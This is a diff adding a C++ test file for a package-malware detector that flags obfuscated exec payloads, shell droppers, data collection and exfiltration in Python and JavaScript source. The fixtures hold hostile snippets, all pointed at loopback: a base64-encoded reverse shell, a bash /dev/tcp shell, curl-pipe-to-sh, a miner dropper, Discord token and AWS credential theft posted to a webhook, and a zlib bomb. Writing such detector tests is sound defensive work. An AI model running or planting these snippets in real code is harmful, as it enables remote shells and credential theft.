@@ -1,0 +1,461 @@
+// One file's facts (src/signals/signals.h): what a package's source decodes and runs, the
+// command lines it hands a process, what it collects and how it sends. Every address in a
+// sample is loopback; a channel that is named by a host (a chat webhook) is written as a path
+// on localhost, so that the sample names no other host.
+#include "signals/signals.h"
+
+#include <gtest/gtest.h>
+#include <zlib.h>
+
+#include <chrono>
+#include <string>
+#include <vector>
+
+namespace batlehub::signals {
+
+// How gtest prints a fact when a comparison fails (found by ADL, so beside the type).
+inline void PrintTo(const Fact& f, std::ostream* os) {
+  *os << fact_name(f.kind) << " | " << f.what << " | " << f.file << ":" << f.line << " | " << phase_name(f.phase)
+      << " | " << f.detail;
+}
+
+namespace {
+
+std::string b64(std::string_view in) {
+  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  std::size_t k = 0;
+  auto byte = [&](std::size_t i) {
+    return i < in.size() ? static_cast<unsigned>(static_cast<unsigned char>(in[i])) : 0U;
+  };
+  for (; k < in.size(); k += 3) {
+    const unsigned v = (byte(k) << 16) | (byte(k + 1) << 8) | byte(k + 2);
+    out += kAlphabet[(v >> 18) & 63];
+    out += kAlphabet[(v >> 12) & 63];
+    out += k + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=';
+    out += k + 2 < in.size() ? kAlphabet[v & 63] : '=';
+  }
+  return out;
+}
+
+std::string zlib_stream(std::string_view in) {
+  uLongf n = compressBound(static_cast<uLong>(in.size()));
+  std::string out(n, '\0');
+  EXPECT_EQ(compress2(reinterpret_cast<Bytef*>(out.data()), &n, reinterpret_cast<const Bytef*>(in.data()),
+                      static_cast<uLong>(in.size()), 9),
+            Z_OK);
+  out.resize(n);
+  return out;
+}
+
+struct Expect {
+  FactKind kind;
+  std::string what;
+  std::size_t line;
+  std::string detail;
+};
+
+// The facts, as the four fields a reader looks at, in order; file and phase are checked apart.
+void expect_facts(const std::vector<Fact>& facts, const std::vector<Expect>& want) {
+  ASSERT_EQ(facts.size(), want.size()) << ::testing::PrintToString(facts);
+  for (std::size_t k = 0; k < want.size(); ++k) {
+    SCOPED_TRACE("fact " + std::to_string(k));
+    EXPECT_EQ(fact_name(facts[k].kind), fact_name(want[k].kind));
+    EXPECT_EQ(facts[k].what, want[k].what);
+    EXPECT_EQ(facts[k].line, want[k].line);
+    EXPECT_EQ(facts[k].detail, want[k].detail);
+  }
+}
+
+std::vector<Fact> py(std::string_view source) {
+  Budget budget;
+  return analyze_source("pkg/setup.py", source, Language::kPython, Phase::kUnknown, budget);
+}
+
+std::vector<Fact> js(std::string_view source) {
+  Budget budget;
+  return analyze_source("lib/index.js", source, Language::kJavaScript, Phase::kUnknown, budget);
+}
+
+const std::string kReverseShell =
+    "import socket,subprocess,os\n"
+    "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
+    "s.connect((\"127.0.0.1\",4444))\n"
+    "os.dup2(s.fileno(),0)\n"
+    "os.dup2(s.fileno(),1)\n"
+    "os.dup2(s.fileno(),2)\n"
+    "subprocess.call([\"/bin/sh\",\"-i\"])\n";
+
+// --- decoded payloads -------------------------------------------------------------------
+
+TEST(Signals, a_base64_python_reverse_shell_under_exec_is_decoded_executed_with_its_inner_facts) {
+  const std::string src = "import base64\nexec(base64.b64decode(\"" + b64(kReverseShell) + "\"))\n";
+  const auto facts = py(src);
+  // The payload's own facts come first, at the line of the string they were decoded from.
+  expect_facts(facts, {
+                          {FactKind::kSend, "socket", 2, "decoded (base64): socket.socket("},
+                          {FactKind::kDecodedExecuted, "base64", 2, excerpt("base64: " + kReverseShell)},
+                      });
+  for (const Fact& f : facts) {
+    EXPECT_EQ(f.file, "pkg/setup.py");
+    EXPECT_EQ(f.phase, Phase::kUnknown);
+  }
+}
+
+TEST(Signals, a_rot13_payload_decoded_by_codecs_and_exec_ed_is_decoded_executed) {
+  const auto facts =
+      py("import codecs\n"
+         "exec(codecs.decode(\"vzcbeg bf; bf.flfgrz('phey uggc://127.0.0.1/v.fu | fu')\", 'rot13'))\n");
+  expect_facts(
+      facts,
+      {
+          {FactKind::kShell, "download-piped-to-shell", 2, "decoded (rot13): curl http://127.0.0.1/i.sh | sh"},
+          {FactKind::kDecodedExecuted, "rot13", 2, "rot13: import os; os.system('curl http://127.0.0.1/i.sh | sh')"},
+      });
+}
+
+TEST(Signals, a_maketrans_substitution_cipher_whose_plain_text_is_exec_ed_is_decoded_executed) {
+  const auto facts =
+      py("T = str.maketrans('abcdefghijklmnopqrstuvwxyz', 'zyxwvutsrqponmlkjihgfedcba')\n"
+         "exec(\"rnklig lh; lh.hbhgvn('rw')\".translate(T))\n");
+  expect_facts(
+      facts, {{FactKind::kDecodedExecuted, "substitution table", 2, "substitution table: import os; os.system('id')"}});
+}
+
+TEST(Signals, a_dict_substitution_table_is_a_table_too) {
+  const auto facts =
+      py("T = {'r': 'i', 'n': 'm', 'k': 'p', 'l': 'o', 'i': 'r', 'g': 't', 'h': 's', 'b': 'y', 'v': 'e', 'w': 'd'}\n"
+         "exec(''.join(T.get(c, c) for c in \"rnklig lh; lh.hbhgvn('rw')\"))\n");
+  expect_facts(
+      facts, {{FactKind::kDecodedExecuted, "substitution table", 2, "substitution table: import os; os.system('id')"}});
+}
+
+TEST(Signals, a_chr_join_of_character_codes_exec_ed_is_decoded_executed) {
+  const auto facts =
+      py("exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 32, 111, 115, 46, 115, 121,\n"
+         "                              115, 116, 101, 109, 40, 39, 105, 100, 39, 41]))\n");
+  expect_facts(facts,
+               {{FactKind::kDecodedExecuted, "character codes", 1, "character codes: import os; os.system('id')"}});
+}
+
+TEST(Signals, a_javascript_base64_buffer_under_eval_is_decoded_executed) {
+  const std::string payload = "require('child_process').exec('id')";
+  const auto facts = js("eval(Buffer.from(\"" + b64(payload) + "\", 'base64').toString());\n");
+  expect_facts(facts, {{FactKind::kDecodedExecuted, "base64", 1, "base64: " + payload}});
+}
+
+TEST(Signals, a_base64_command_line_handed_to_os_system_is_a_shell_fact_and_decoded_executed) {
+  const std::string cmd = "curl -fsSL http://127.0.0.1/i.sh | sh";
+  const auto facts = py("import base64, os\nos.system(base64.b64decode(\"" + b64(cmd) + "\"))\n");
+  expect_facts(facts, {
+                          {FactKind::kShell, "download-piped-to-shell", 2, "decoded (base64): " + cmd},
+                          {FactKind::kDecodedExecuted, "base64", 2, "base64: " + cmd},
+                      });
+}
+
+TEST(Signals, decoded_code_in_a_file_that_never_runs_it_is_decoded_code) {
+  const auto facts = py("import base64\nX = base64.b64decode(\"" + b64("import os; os.system('id')") + "\")\n");
+  expect_facts(facts, {{FactKind::kDecodedCode, "base64", 2, "base64: import os; os.system('id')"}});
+}
+
+TEST(Signals, a_base64_zlib_bomb_is_a_decoding_bomb) {
+  const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
+  Budget budget;
+  const auto facts =
+      analyze_source("setup.py", "import zlib, base64\nzlib.decompress(base64.b64decode(\"" + bomb + "\"))\n",
+                     Language::kPython, Phase::kUnknown, budget);
+  ASSERT_EQ(facts.size(), 1u);
+  EXPECT_EQ(facts[0].kind, FactKind::kDecodingBomb);
+  EXPECT_EQ(facts[0].what, "zlib");
+  EXPECT_EQ(facts[0].detail, "a compressed string inflates past 1 MiB from under 10 KiB");
+  EXPECT_TRUE(budget.bomb);
+}
+
+TEST(Signals, a_decoding_bomb_fact_names_the_line_of_its_string) {
+  const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
+  const auto facts = py("import zlib, base64\n\n\nzlib.decompress(base64.b64decode(\"" + bomb + "\"))\n");
+  ASSERT_EQ(facts.size(), 1u);
+  EXPECT_EQ(facts[0].line, 4u);
+}
+
+TEST(Signals, a_bomb_inside_a_decoded_payload_is_one_decoding_bomb_fact) {
+  const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
+  const std::string inner = "import zlib, base64\nzlib.decompress(base64.b64decode(\"" + bomb + "\"))\n";
+  const auto facts = py("import base64\nexec(base64.b64decode(\"" + b64(inner) + "\"))\n");
+  std::size_t bombs = 0;
+  for (const Fact& f : facts) bombs += f.kind == FactKind::kDecodingBomb ? 1 : 0;
+  EXPECT_EQ(bombs, 1u);
+}
+
+TEST(Signals, a_file_whose_decoding_budget_is_spent_decodes_nothing_more) {
+  Budget budget;
+  budget.bytes_left = 10;
+  const auto facts =
+      analyze_source("x.py", "import base64\nexec(base64.b64decode(\"" + b64("import os; os.system('id')") + "\"))\n",
+                     Language::kPython, Phase::kUnknown, budget);
+  EXPECT_TRUE(facts.empty());
+  EXPECT_TRUE(budget.exhausted);
+  EXPECT_EQ(budget.bytes_left, 10u);
+}
+
+// --- command lines ------------------------------------------------------------------------
+
+TEST(Signals, a_popen_of_a_dropper_that_runs_a_miner_gives_each_shell_fact) {
+  const auto facts =
+      py("import subprocess\n"
+         "subprocess.Popen(\"wget http://127.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x -o "
+         "stratum+tcp://127.0.0.1:3333\", shell=True)\n");
+  expect_facts(facts,
+               {
+                   {FactKind::kShell, "download-executed", 2, "wget http://127.0.0.1/x -O /tmp/x; chmod +x /tmp/x"},
+                   {FactKind::kShell, "miner", 2, "/tmp/x -o stratum+tcp://127.0.0.1:3333"},
+                   {FactKind::kShell, "download-executed", 2,
+                    "wget http://127.0.0.1/x -O /tmp/x; /tmp/x -o stratum+tcp://127.0.0.1:3333"},
+               });
+}
+
+TEST(Signals, a_command_put_in_a_variable_then_run_by_os_system_is_a_shell_fact_at_its_string) {
+  const auto facts =
+      py("import os\n"
+         "cmd = \"curl -fsSL http://127.0.0.1/i.sh | sh\"\n"
+         "os.system(cmd)\n");
+  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
+}
+
+TEST(Signals, a_list_handed_to_subprocess_reads_as_its_command_line) {
+  const auto facts =
+      py("import subprocess\n"
+         "subprocess.call(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'])\n");
+  // Once as the joined argv, once as the string alone (every string of a file that starts
+  // processes is read as a command too): two pieces of evidence, told apart by their detail.
+  expect_facts(facts, {
+                          {FactKind::kShell, "reverse-shell", 2, "bash -c bash -i >&/dev/tcp/127.0.0.1/4444 0>&1"},
+                          {FactKind::kShell, "reverse-shell", 2, "bash -i >&/dev/tcp/127.0.0.1/4444 0>&1"},
+                      });
+}
+
+TEST(Signals, a_javascript_child_process_exec_of_a_download_piped_to_sh_is_a_shell_fact) {
+  const auto facts =
+      js("const cp = require('child_process');\n"
+         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\n");
+  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
+}
+
+TEST(Signals, a_command_line_written_in_a_string_that_nothing_runs_is_not_a_shell_fact) {
+  // os.system here is inside a string: printed, not called.
+  EXPECT_TRUE(py("print(\"os.system('curl -fsSL http://127.0.0.1/i.sh | sh')\")\n").empty());
+}
+
+TEST(Signals, a_file_gives_at_most_64_facts) {
+  std::string src = "import os\n";
+  for (int i = 0; i < 100; ++i) src += "os.system(\"curl -fsSL http://127.0.0.1/" + std::to_string(i) + ".sh | sh\")\n";
+  EXPECT_EQ(py(src).size(), 64u);
+}
+
+TEST(Signals, a_file_of_many_strings_that_starts_a_process_is_analysed_in_linear_time) {
+  // 200 000 empty strings (800 kB, under the tree's 2 MiB file bound) and one process call:
+  // each string is read as a command line, at its own line, without counting from the top.
+  std::string src = "import subprocess\nsubprocess.run(x)\nx = [";
+  for (int i = 0; i < 200000; ++i) src += "'',\n";
+  src += "]\n";
+  const auto start = std::chrono::steady_clock::now();
+  EXPECT_TRUE(py(src).empty());
+  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(10));
+}
+
+TEST(Signals, a_file_of_many_decoded_payloads_is_analysed_in_linear_time) {
+  std::string src = "import base64\n";
+  for (int i = 0; i < 20000; ++i) src += "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=\"))\n";
+  const auto start = std::chrono::steady_clock::now();
+  EXPECT_EQ(py(src).size(), 1u);  // the same fact each time, said once
+  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(10));
+}
+
+TEST(Signals, a_shell_fact_after_an_unterminated_string_is_at_its_own_line) {
+  const auto facts =
+      py("import os\n"
+         "s = 'unterminated\n"
+         "cmd = \"curl -fsSL http://127.0.0.1/i.sh | sh\"\n"
+         "os.system(cmd)\n");
+  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 3, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
+}
+
+// --- collected and sent -------------------------------------------------------------------
+
+TEST(Signals, python_hostname_posted_with_requests_is_collect_host_and_send_http) {
+  const auto facts = py("import socket, requests\nrequests.post(\"http://127.0.0.1/c\", data=socket.gethostname())\n");
+  expect_facts(facts, {
+                          {FactKind::kCollect, "host", 2, "gethostname("},
+                          {FactKind::kSend, "http", 2, "requests.post("},
+                      });
+}
+
+TEST(Signals, javascript_os_hostname_sent_by_https_request_is_collect_host_and_send_http) {
+  const auto facts =
+      js("const os = require('os');\n"
+         "const https = require('https');\n"
+         "const req = https.request({ hostname: 'localhost', path: '/c', method: 'POST' });\n"
+         "req.write(os.hostname());\n"
+         "req.end();\n");
+  expect_facts(facts, {
+                          {FactKind::kCollect, "host", 4, "os.hostname("},
+                          {FactKind::kCollect, "host", 4, ".hostname()"},
+                          {FactKind::kSend, "http", 3, "https.request("},
+                      });
+}
+
+TEST(Signals, a_discord_leveldb_path_and_a_webhook_url_are_a_token_store_and_a_webhook) {
+  const auto facts =
+      py("import os, requests\n"
+         "p = os.getenv(\"APPDATA\") + \"\\\\discord\\\\Local Storage\\\\leveldb\"\n"
+         "requests.post(\"http://localhost/discord.com/api/webhooks/1/x\", data=open(p).read())\n");
+  expect_facts(facts, {
+                          {FactKind::kCollect, "token-store", 2, "discord"},
+                          {FactKind::kCollect, "token-store", 2, "/local storage/leveldb"},
+                          {FactKind::kSend, "http", 3, "requests.post("},
+                          {FactKind::kSend, "webhook", 3, "discord.com/api/webhooks"},
+                      });
+}
+
+TEST(Signals, discord_alone_is_every_bot_library_and_not_a_token_store) {
+  EXPECT_TRUE(py("import discord\nclient = discord.Client()\nNAME = \"discord bot\"\n").empty());
+}
+
+TEST(Signals, the_whole_environment_dumped_and_a_credential_file_are_collected) {
+  const auto facts =
+      py("import os, json\n"
+         "blob = json.dumps(dict(os.environ))\n"
+         "key = open(os.path.expanduser('~/.aws/credentials')).read()\n");
+  expect_facts(facts, {
+                          {FactKind::kCollect, "environment", 2, "dict(os.environ)"},
+                          {FactKind::kCollect, "credential-file", 3, ".aws/credentials"},
+                      });
+}
+
+// --- benign -----------------------------------------------------------------------------
+
+TEST(Signals, a_base64_image_decoded_and_never_run_gives_nothing) {
+  // A 1×1 PNG: binary, not text, and nothing runs it.
+  EXPECT_TRUE(
+      py("import base64\n"
+         "PNG = "
+         "base64.b64decode("
+         "\"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\")\n")
+          .empty());
+}
+
+TEST(Signals, a_plain_subprocess_run_of_git_status_gives_nothing) {
+  EXPECT_TRUE(py("import subprocess\nsubprocess.run([\"git\", \"status\"], check=True)\n").empty());
+}
+
+TEST(Signals, a_javascript_regex_exec_without_child_process_gives_nothing) {
+  EXPECT_TRUE(js("const m = /(\\d+)-(\\w+)/.exec(str);\nconst n = new RegExp(\"a+\").exec(other);\n").empty());
+}
+
+TEST(Signals, the_environment_copied_for_a_subprocess_is_not_collected) {
+  EXPECT_TRUE(py("import os, subprocess\nsubprocess.run([\"make\"], env=os.environ.copy())\n").empty());
+}
+
+TEST(Signals, a_single_environment_variable_is_not_the_whole_environment) {
+  EXPECT_TRUE(py("import os\nhome = os.environ.get('HOME')\ndebug = os.environ['DEBUG']\n").empty());
+}
+
+// --- facts' fields ------------------------------------------------------------------------
+
+TEST(Signals, every_fact_carries_the_file_and_the_phase_it_was_given) {
+  Budget budget;
+  const auto facts = analyze_source("package/hook.js", "fetch('http://127.0.0.1/c?h=' + require('os').hostname())",
+                                    Language::kJavaScript, Phase::kInstall, budget);
+  ASSERT_EQ(facts.size(), 2u);
+  for (const Fact& f : facts) {
+    EXPECT_EQ(f.file, "package/hook.js");
+    EXPECT_EQ(f.phase, Phase::kInstall);
+    EXPECT_EQ(f.line, 1u);
+  }
+}
+
+TEST(Signals, analyze_command_judges_an_npm_script_line) {
+  const auto facts = analyze_command("package.json", 0, "curl -fsSL http://127.0.0.1/i.sh | sh", Phase::kInstall);
+  ASSERT_EQ(facts.size(), 1u);
+  EXPECT_EQ(facts[0].kind, FactKind::kShell);
+  EXPECT_EQ(facts[0].what, "download-piped-to-shell");
+  EXPECT_EQ(facts[0].file, "package.json");
+  EXPECT_EQ(facts[0].line, 0u);
+  EXPECT_EQ(facts[0].phase, Phase::kInstall);
+  EXPECT_EQ(facts[0].detail, "curl -fsSL http://127.0.0.1/i.sh | sh");
+  EXPECT_TRUE(analyze_command("package.json", 0, "node-gyp rebuild", Phase::kInstall).empty());
+}
+
+TEST(Signals, language_of_knows_python_and_javascript_by_their_extensions) {
+  Language lang = Language::kJavaScript;
+  EXPECT_TRUE(language_of("a/setup.py", lang));
+  EXPECT_EQ(lang, Language::kPython);
+  EXPECT_TRUE(language_of("site.pth", lang));
+  EXPECT_EQ(lang, Language::kPython);
+  EXPECT_TRUE(language_of("w.pyw", lang));
+  EXPECT_TRUE(language_of("lib/index.js", lang));
+  EXPECT_EQ(lang, Language::kJavaScript);
+  EXPECT_TRUE(language_of("x.cjs", lang));
+  EXPECT_TRUE(language_of("x.mjs", lang));
+  EXPECT_FALSE(language_of("x.ts", lang));
+  EXPECT_FALSE(language_of(".py", lang));  // a name that is only an extension
+  EXPECT_FALSE(language_of("py", lang));
+  EXPECT_FALSE(language_of("README", lang));
+}
+
+TEST(Signals, fact_and_phase_names_are_those_the_json_says) {
+  EXPECT_EQ(fact_name(FactKind::kDecodedExecuted), "decoded-executed");
+  EXPECT_EQ(fact_name(FactKind::kDecodedCode), "decoded-code");
+  EXPECT_EQ(fact_name(FactKind::kDecodingBomb), "decoding-bomb");
+  EXPECT_EQ(fact_name(FactKind::kShell), "shell");
+  EXPECT_EQ(fact_name(FactKind::kCollect), "collect");
+  EXPECT_EQ(fact_name(FactKind::kSend), "send");
+  EXPECT_EQ(fact_name(FactKind::kRunsAtInstall), "runs-at-install");
+  EXPECT_EQ(fact_name(FactKind::kRunsAtRequire), "runs-at-require");
+  EXPECT_EQ(phase_name(Phase::kUnknown), "");
+  EXPECT_EQ(phase_name(Phase::kInstall), "install");
+  EXPECT_EQ(phase_name(Phase::kRequire), "require");
+}
+
+// --- excerpt ----------------------------------------------------------------------------
+
+TEST(Signals, excerpt_keeps_short_printable_text_as_it_is) {
+  EXPECT_EQ(excerpt("curl -fsSL http://127.0.0.1/i.sh | sh"), "curl -fsSL http://127.0.0.1/i.sh | sh");
+  EXPECT_EQ(excerpt(""), "");
+  EXPECT_EQ(excerpt(std::string(200, 'a')), std::string(200, 'a'));  // exactly at the bound: whole
+}
+
+TEST(Signals, excerpt_turns_control_bytes_into_spaces) {
+  EXPECT_EQ(excerpt(std::string("a\nb\tc\rd\0e\x1b[31m\x7f", 15)), "a b c d e [31m ");
+}
+
+TEST(Signals, excerpt_cuts_at_max_bytes_and_says_so) {
+  EXPECT_EQ(excerpt(std::string(201, 'a')), std::string(200, 'a') + "…");
+  EXPECT_EQ(excerpt("abcdef", 3), "abc…");
+}
+
+TEST(Signals, excerpt_cuts_on_a_utf8_boundary) {
+  // "é" is two bytes: the third would straddle the bound of 3, so the cut is before it.
+  EXPECT_EQ(excerpt("a\xC3\xA9\xC3\xA9", 4), "a\xC3\xA9…");
+  EXPECT_EQ(excerpt("\xF0\x9F\x98\x80\xF0\x9F\x98\x80", 6), "\xF0\x9F\x98\x80…");
+}
+
+TEST(Signals, excerpt_replaces_invalid_utf8_with_a_question_mark) {
+  EXPECT_EQ(excerpt("a\xFF"
+                    "b\x80"
+                    "c\xC3"),
+            "a?b?c?");
+  EXPECT_EQ(excerpt("\xC3(x"), "?(x");
+}
+
+TEST(Signals, excerpt_never_exceeds_its_bound_plus_the_ellipsis) {
+  for (std::size_t max : {0U, 1U, 2U, 3U, 7U, 200U}) {
+    std::string mixed;
+    for (int i = 0; i < 100; ++i) mixed += "a\xC3\xA9\xF0\x9F\x98\x80\xFF\n";
+    const std::string e = excerpt(mixed, max);
+    EXPECT_LE(e.size(), max + std::string("…").size()) << max;
+  }
+}
+
+}  // namespace
+}  // namespace batlehub::signals
